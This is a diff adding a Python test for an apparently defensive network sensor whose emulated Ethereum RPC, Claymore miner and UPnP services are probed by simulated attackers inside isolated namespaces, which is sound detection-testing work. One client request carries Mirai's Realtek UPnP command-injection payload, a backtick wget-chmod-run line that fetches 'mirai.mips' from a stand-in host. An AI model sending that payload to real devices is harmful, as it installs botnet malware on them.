@@ -1,0 +1,270 @@
+#!/usr/bin/python3
+"""The responder's emulated protocols (--emulate all) against real clients.
+
+Two network namespaces this test makes, as the responder test does: SENSOR holds one end of a
+veth pair, read and written by scanscope through net_af_packet; SCAN holds the other end,
+198.18.0.1/24 and 2001:db8:1::1/64, with the darknet 198.19.0.0/24 and 2001:db8:ff::/48 routed
+to the sensor's MAC. Nothing leaves the two namespaces.
+
+What the clients do, and so what the sensor must report (the expected counts come from the
+clients' own calls, test/data/jsonrpc-client.cjs and the lines below):
+
+- ethers 6 (from npm, test/data/jsonrpc-client.cjs) against 8545 over IPv4: recon (single
+  calls and a batch), three personal_unlockAccount guesses, one eth_sendTransaction to
+  0xcdcd...cd, personal_newAccount, miner_setEtherbase and miner_start. The script exits 0 only
+  when ethers took every answer.
+- curl over IPv6: eth_accounts and eth_blockNumber on one keep-alive connection.
+- nc: Claymore's miner_getstat1 and a miner_file command on 3333.
+- curl: Mirai's Realtek UPnP exploit on 52869, carrying a download URL.
+
+The report's steps per port, /metrics, the source store and the event log's indicators are
+checked against those counts; what each client received is checked as the client saw it.
+
+usage: test_emulation.py SCANSCOPE SOURCE_DIR
+"""
+
+import json
+import os
+import shutil
+import signal
+import sqlite3
+import subprocess
+import sys
+import tempfile
+import time
+import urllib.request
+
+from netns_link import in_ns, mac_of, make_namespace, remove_namespace, run, skip_status, wait_for
+from serve_helpers import cache_args
+
+PID = os.getpid()
+SENSOR, SCAN = f"ssemu-sensor-{PID}", f"ssemu-scan-{PID}"
+SENSOR_IF, SCAN_IF = "emu0", "emu1"
+SCANNER, SCANNER6 = "198.18.0.1", "2001:db8:1::1"
+GATEWAY = "198.18.0.254"
+DARKNET, DARKNET6 = "198.19.0.0/24", "2001:db8:ff::/48"
+SENSOR_HTTP = 9478  # in the sensor's own namespace
+NODE_DIR = os.environ.get("SCANSCOPE_NODE_DIR", "/opt/ssnode")
+VICTIM = "0x407d73d8a49eeb85d32cf465507dd71d507100c1"
+THIEF = "0x" + "cd" * 20
+DOWNLOAD = "http://192.0.2.66/bins/mirai.mips"
+TOOLS = ["curl", "nc", "node", "tcpdump"]
+
+
+def setup():
+    if not make_namespace(SENSOR):
+        return False
+    run("ip", "netns", "add", SCAN)
+    for ns in (SENSOR, SCAN):
+        in_ns(ns, "ip", "link", "set", "lo", "up")
+    run("ip", "link", "add", SENSOR_IF, "netns", SENSOR, "type", "veth", "peer", "name", SCAN_IF,
+        "netns", SCAN)
+    in_ns(SENSOR, "sysctl", "-qw", f"net.ipv6.conf.{SENSOR_IF}.disable_ipv6=1")
+    in_ns(SENSOR, "ip", "link", "set", SENSOR_IF, "up")
+    in_ns(SCAN, "ip", "link", "set", SCAN_IF, "up")
+    sensor_mac = mac_of(SENSOR, SENSOR_IF)
+    in_ns(SCAN, "ip", "addr", "add", f"{SCANNER}/24", "dev", SCAN_IF)
+    in_ns(SCAN, "ip", "neigh", "add", GATEWAY, "lladdr", sensor_mac, "dev", SCAN_IF, "nud",
+          "permanent")
+    in_ns(SCAN, "ip", "route", "add", DARKNET, "via", GATEWAY)
+    in_ns(SCAN, "ip", "-6", "addr", "add", f"{SCANNER6}/64", "dev", SCAN_IF, "nodad")
+    in_ns(SCAN, "ip", "-6", "neigh", "add", "fe80::1", "lladdr", sensor_mac, "dev", SCAN_IF,
+          "nud", "permanent")
+    in_ns(SCAN, "ip", "-6", "route", "add", DARKNET6, "via", "fe80::1", "dev", SCAN_IF)
+    return True
+
+
+def start_sensor(scanscope, source_dir, tmp):
+    paths = {k: os.path.join(tmp, k) for k in ("report.json", "events.json", "sources.db",
+                                                 "sensor.log")}
+    args = ["ip", "netns", "exec", SENSOR, scanscope, "-l", "0-1", "--no-huge", "-m", "512",
+            "--no-pci", f"--file-prefix=ssemu-{PID}",
+            "--vdev", f"net_af_packet0,iface={SENSOR_IF}", "--",
+            "--config", os.path.join(source_dir, "config", "scanscope.conf"), *cache_args(),
+            "--geo-db", "none", "--duration", "120", "--http", f"127.0.0.1:{SENSOR_HTTP}",
+            "--signatures", os.path.join(source_dir, "config", "signatures.rules"),
+            "--mbufs", "8192", "--json-out", paths["report.json"], "--status-interval", "1",
+            "--monitored", f"{DARKNET},{DARKNET6}", "--respond",
+            "--respond-allow", "198.18.0.0/15,2001:db8:1::/64", "--emulate", "all",
+            "--events", paths["events.json"], "--source-store", paths["sources.db"]]
+    proc = subprocess.Popen(args, stdout=subprocess.DEVNULL,
+                            stderr=open(paths["sensor.log"], "w"))
+    if not wait_for(paths["sensor.log"], "pps", 30):
+        raise RuntimeError("scanscope did not start polling: " + open(paths["sensor.log"]).read())
+    return proc, paths
+
+
+def stop_sensor(proc, paths):
+    time.sleep(1)  # the last answers
+    proc.send_signal(signal.SIGINT)
+    rc = proc.wait(timeout=60)
+    if rc not in (0, 130):
+        raise RuntimeError(f"scanscope exited {rc}: " + open(paths["sensor.log"]).read())
+    with open(paths["report.json"]) as f:
+        return json.load(f)
+
+
+def clients(source_dir):
+    """Each client once; what each of them received."""
+    got = {}
+    client = os.path.join(source_dir, "test", "data", "jsonrpc-client.cjs")
+    env = dict(os.environ, NODE_PATH=os.path.join(NODE_DIR, "node_modules"))
+    r = in_ns(SCAN, "timeout", "60", "node", client, "http://198.19.0.10:8545", check=False,
+              capture_output=True, text=True, env=env, timeout=90)
+    got["ethers"] = (r.returncode, (r.stdout + r.stderr)[-800:])
+    # Two calls on one connection: curl reuses it for the URL after --next.
+    call = '{"jsonrpc":"2.0","method":"%s","params":[],"id":%d}'
+    r = in_ns(SCAN, "curl", "-6", "-g", "-sS", "-v", "-m", "5", "-H",
+              "Content-Type: application/json", "--data", call % ("eth_accounts", 1),
+              "http://[2001:db8:ff::10]:8545/", "--next", "-m", "5", "-H",
+              "Content-Type: application/json", "--data", call % ("eth_blockNumber", 2),
+              "http://[2001:db8:ff::10]:8545/", check=False, capture_output=True, text=True,
+              timeout=20)
+    got["curl6"] = (r.returncode, r.stdout, r.stderr)
+    lines = ('{"id":0,"jsonrpc":"2.0","method":"miner_getstat1"}\n'
+             '{"id":0,"jsonrpc":"2.0","method":"miner_file","params":["reboot.bat","6578"]}\n')
+    r = in_ns(SCAN, "nc", "-w", "2", "198.19.0.11", "3333", check=False, capture_output=True,
+              input=lines, text=True, timeout=20)
+    got["nc"] = (r.returncode, r.stdout)
+    body = ('<?xml version="1.0"?><s:Envelope><s:Body><u:AddPortMapping><NewInternalClient>'
+            f'`cd /var; wget {DOWNLOAD} -O m; chmod 777 m; ./m`</NewInternalClient>'
+            '</u:AddPortMapping></s:Body></s:Envelope>')
+    r = in_ns(SCAN, "curl", "-sS", "-m", "5", "-o", "/dev/null", "-w", "%{http_code}", "-X",
+              "POST", "--data", body, "http://198.19.0.13:52869/picsdesc.xml", check=False,
+              capture_output=True, text=True, timeout=20)
+    got["upnp"] = (r.returncode, r.stdout)
+    return got
+
+
+def check_clients(got, failures):
+    code, out = got["ethers"]
+    if code != 0:
+        failures.append(f"ethers did not finish its calls against the emulated node: {out}")
+    code, out, err = got["curl6"]
+    answers = [json.loads(line) for line in out.splitlines() if line.startswith("{")]
+    if code != 0 or len(answers) != 2 or len(answers[0].get("result", [])) != 2 or \
+            not answers[1].get("result", "").startswith("0x"):
+        failures.append(f"curl over IPv6: exit {code}, answers {answers}, {err[-400:]}")
+    elif "Re-using existing connection" not in err:
+        failures.append(f"curl over IPv6 opened a second connection: {err[-400:]}")
+    code, out = got["nc"]
+    answers = [json.loads(line) for line in out.splitlines() if line.startswith("{")]
+    if len(answers) != 2 or len(answers[0].get("result") or []) != 9 or \
+            answers[1].get("result") is not True:
+        failures.append(f"nc on 3333 received {out!r}")
+    code, out = got["upnp"]
+    if code != 0 or out != "200":
+        failures.append(f"the UPnP exploit got {out!r} (curl exit {code}), not 200")
+
+
+# The steps each client's calls reach, by port: (segments, sources). jsonrpc-client.cjs makes
+# five recon calls and a batch of three (one request), three unlocks, one send and three miner
+# calls, each its own request; curl over IPv6 two recon calls.
+EXPECTED_STEPS = {
+    (8545, "eth_recon"): (6 + 2, 2),
+    (8545, "eth_unlock"): (3, 1),
+    (8545, "eth_send"): (1, 1),
+    (8545, "eth_miner"): (3, 1),
+    (3333, "miner_status"): (1, 1),
+    (3333, "miner_control"): (1, 1),
+    (52869, "http_request"): (1, 1),
+}
+
+
+def check_report(report, failures):
+    steps = {(p["port"], s["step"]): (s["packets"], s["sources"])
+             for p in report["conversation"]["ports"] for s in p.get("steps", [])}
+    if steps != EXPECTED_STEPS:
+        failures.append(f"steps in the report: {steps}, the clients made {EXPECTED_STEPS}")
+    else:
+        print(f"steps: {sorted(steps.items())}")
+    counters = report["conversation"]["counters"]
+    # Every connection that completed its handshake went on talking; the requests are the
+    # clients' calls: ethers 13 (five, a batch, three, one, three), curl 2, nc 2, the exploit 1.
+    if counters["emulation_conversations"] != counters["responder_handshakes"] or \
+            counters["emulation_requests"] != 13 + 2 + 2 + 1:
+        failures.append(f"emulation counters: {counters}")
+    for bad in ("emulation_malformed_http", "emulation_malformed_json", "emulation_too_large",
+                "emulation_table_full", "emulation_source_cap", "responder_unknown_acks"):
+        if counters[bad] != 0:
+            failures.append(f"{bad} = {counters[bad]}: {counters}")
+
+
+def check_metrics(metrics, failures):
+    want = 'scanscope_conversation_step_sources{port="8545",protocol="tcp",name="",step="eth_send"} 1'
+    samples = [line for line in metrics.splitlines() if "step=\"eth_send\"" in line]
+    if not any(line.startswith("scanscope_conversation_step_sources") and line.endswith(" 1")
+               for line in samples):
+        failures.append(f"/metrics lacks {want}: {samples}")
+
+
+def check_events(path, failures):
+    indicators = []
+    with open(path) as f:
+        for line in f:
+            event = json.loads(line)
+            if event["event_type"] == "indicator":
+                indicators.append((event["src_ip"], event["dest_port"],
+                                   event["indicator"]["kind"], event["indicator"]["value"]))
+    want = {(SCANNER, 8545, "eth_recipient", THIEF), (SCANNER, 8545, "eth_sender", VICTIM),
+            (SCANNER, 8545, "eth_etherbase", THIEF), (SCANNER, 3333, "miner_command",
+                                                       "miner_file reboot.bat"),
+            (SCANNER, 52869, "url", DOWNLOAD)}
+    if not want <= set(indicators):
+        failures.append(f"event log indicators lack {sorted(want - set(indicators))}: "
+                        f"{indicators}")
+    passphrases = [i for i in indicators if i[2] == "eth_passphrase"]
+    # Three guesses, their text withheld (no --emulate-keep-secrets).
+    if len(passphrases) != 3 or any(i[3] for i in passphrases):
+        failures.append(f"passphrase indicators: {passphrases}")
+    if not failures:
+        print(f"event log: {len(indicators)} indicators")
+
+
+def check_store(path, failures):
+    with sqlite3.connect(path) as db:
+        seen = set(db.execute("SELECT address, kind, port, value FROM activity "
+                              "WHERE kind = 'conversation'"))
+    want = {(SCANNER, "conversation", 8545, s) for s in ("eth_recon", "eth_unlock", "eth_send")}
+    want |= {(SCANNER6, "conversation", 8545, "eth_recon")}
+    if not want <= seen:
+        failures.append(f"source store lacks {sorted(want - seen)}: {sorted(seen)}")
+
+
+def main():
+    scanscope, source_dir = sys.argv[1:3]
+    missing = [t for t in TOOLS if shutil.which(t) is None]
+    if not os.path.exists(os.path.join(NODE_DIR, "node_modules", "ethers")):
+        missing.append(f"ethers in {NODE_DIR}")
+    if missing:
+        print(f"FAIL: tools missing (scripts/install-deps.sh installs them): {missing}")
+        return 1
+    failures = []
+    with tempfile.TemporaryDirectory() as tmp:
+        try:
+            if not setup():
+                return skip_status()
+            proc, paths = start_sensor(scanscope, source_dir, tmp)
+            got = clients(source_dir)
+            r = in_ns(SENSOR, "curl", "-s", "-m", "5", f"http://127.0.0.1:{SENSOR_HTTP}/metrics",
+                      check=False, capture_output=True, text=True, timeout=20)
+            report = stop_sensor(proc, paths)
+            check_clients(got, failures)
+            check_report(report, failures)
+            check_metrics(r.stdout, failures)
+            check_events(paths["events.json"], failures)
+            check_store(paths["sources.db"], failures)
+        except Exception as e:  # noqa: BLE001 - report, then clean up
+            failures.append(f"{type(e).__name__}: {e}")
+        finally:
+            for ns in (SENSOR, SCAN):
+                remove_namespace(ns)
+    for f in failures:
+        print("FAIL:", f)
+    if not failures:
+        print("OK: ethers, curl, nc and an exploit talked to the emulated protocols")
+    return 1 if failures else 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
